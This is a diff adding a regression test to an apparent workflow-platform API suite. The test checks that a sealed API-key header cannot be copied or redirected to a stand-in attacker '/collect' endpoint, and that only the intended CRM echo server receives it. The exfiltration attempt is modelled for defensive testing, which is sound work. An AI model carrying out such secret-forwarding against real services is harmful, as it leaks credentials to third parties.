@@ -356,6 +356,47 @@ describe('secrets typed into a node', () => {
     expect(Buffer.from(String(arrived.authorization).slice(6), 'base64').toString()).toBe('svc:Rst!Passw0rd#42');
     expect(arrived['x-token']).toBe('t#1');
   });
+
+  it('opens a typed secret only in its own node at its own origin: a copy or a moved URL sends nothing', async () => {
+    const key = `bound-${randomBytes(10).toString('hex')}`;
+    type Saved = { id: string; definition: { nodes: Array<{ inputs: { Headers: Record<string, unknown> } }> } };
+    const created = await asAdmin<Saved>(
+      'POST',
+      '/api/workflows',
+      workflow('Bound key', [webhook('bound', { URL: `${crm.origin}/echo`, Headers: { 'X-Api-Key': key } })]),
+    );
+    expect(created.status).toBe(201);
+    const { definition } = (await asEditor<Saved>('GET', `/api/workflows/${created.body.id}`)).body;
+    const node = definition.nodes[0];
+    const copied = await asEditor<{ error: { code: string; details: { path: string } } }>(
+      'POST',
+      '/api/workflows',
+      workflow('Mine', [
+        webhook('mine', {
+          URL: `${attacker.origin}/collect`,
+          Headers: { 'X-Api-Key': node.inputs.Headers['X-Api-Key'] },
+        }),
+      ]),
+    );
+    expect([copied.status, copied.body.error.code, copied.body.error.details.path]).toEqual([
+      400,
+      'AH_SEALED_VALUE_INVALID',
+      '/nodes/0/inputs/Headers/X-Api-Key',
+    ]);
+    const moved = await asEditor<{ error: { code: string } }>('PUT', `/api/workflows/${created.body.id}`, {
+      ...definition,
+      nodes: [{ ...node, inputs: { ...node.inputs, URL: `${attacker.origin}/collect` } }],
+    });
+    expect([moved.status, moved.body.error.code]).toEqual([400, 'AH_SEALED_VALUE_INVALID']);
+    const before = crm.requestsTo('/echo').length;
+    const tested = await asEditor('POST', `/api/workflows/${created.body.id}/nodes/bound/test-connection`, {
+      sendRealRequest: true,
+    });
+    expect(tested.status, JSON.stringify(tested.body)).toBe(200);
+    const sent = crm.requestsTo('/echo').slice(before);
+    expect(sent.map((request) => request.headers['x-api-key'])).toEqual([key]);
+    expect(attacker.requests).toEqual([]);
+  });
 });
 
 describe('placeholders in a URL, end to end', () => {
